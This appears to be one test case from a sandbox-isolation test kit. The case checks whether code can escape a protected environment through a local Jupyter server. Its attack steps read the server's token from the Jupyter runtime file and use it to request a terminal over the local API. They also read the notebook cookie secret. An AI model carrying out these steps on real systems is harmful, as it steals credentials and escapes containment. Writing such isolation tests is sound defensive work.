"""J3: reads the token and asks the server for a terminal outside of the protection"""
from kit import *


def attack(w):
    runtime = w.home / ".local/share/jupyter/runtime"
    yield "open jpserver", lambda: read(runtime / "jpserver-1.json")
    yield "ask the server", lambda: connect("127.0.0.1", w.tcp, b"POST /api/terminals HTTP/1.0\r\nAuthorization: token " + w.token + b"\r\n\r\n")
    yield "the cookie secret", lambda: read(w.home / ".local/share/jupyter/notebook_secret")


def twin(w):
    yield "a server of its own", own_server
